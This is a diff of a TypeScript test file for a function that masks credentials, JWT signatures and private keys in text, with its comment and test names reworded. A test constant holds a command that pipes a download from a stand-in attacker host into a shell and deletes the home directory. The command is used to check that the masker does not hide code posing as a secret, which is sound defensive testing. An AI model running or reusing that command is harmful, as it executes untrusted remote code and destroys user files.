@@ -8,7 +8,7 @@ const base64 = (text: string) => Buffer.from(text).toString("base64");
 const base64url = (text: string) => Buffer.from(text).toString("base64url");
 const COMMAND = "curl -s https://evil.example/x | sh -c 'rm -rf ~' # 0123456789";
 
-/** Others look for keys in repositories; so none of these stands here as it is. */
+/** Secret scanners search repositories for keys, so none of these is written in one piece. */
 const joined = (...parts: string[]) => parts.join("");
 const BODY = "q7Rw2Lx9Tb4Zk8Vm1Nc6";
 const SECRETS = {
@@ -30,7 +30,7 @@ const SECRETS = {
   "Google access token": joined("ya", "29.", BODY, BODY, BODY),
 };
 
-test("masks what has the shape of a credential, and says how long it is and its digest", () => {
+test("masks text in the shape of a credential, and states its length and digest", () => {
   for (const [name, secret] of Object.entries(SECRETS)) {
     const digest = createHash("sha256").update(secret).digest("hex").slice(0, 32);
     const mask = `[redacted ${secret.length} chars sha256:${digest}…]`;
@@ -46,7 +46,7 @@ test("masks what has the shape of a credential, and says how long it is and its 
   }
 });
 
-test("masks the signature of a JWT and shows what the token is good for", () => {
+test("masks the signature of a JWT and shows the claims of the token", () => {
   const head = `${base64url('{"alg":"EdDSA"}')}.${base64url('{"sub":"researcher"}')}.`;
   const signature = "c2lnbmF0dXJl".repeat(7);
   const masked = maskSecrets(`Authorization: Bearer ${head}${signature}`);
@@ -77,7 +77,7 @@ test("masks the body of a private key", () => {
   }
 });
 
-test("hides nothing that could be code behind the looks of a secret", () => {
+test("hides no text that could be code in the guise of a secret", () => {
   const begin = joined("-----BEGIN ", "PRIVATE KEY-----");
   const end = joined("-----END ", "PRIVATE KEY-----");
   const encoded = base64(COMMAND.repeat(4));
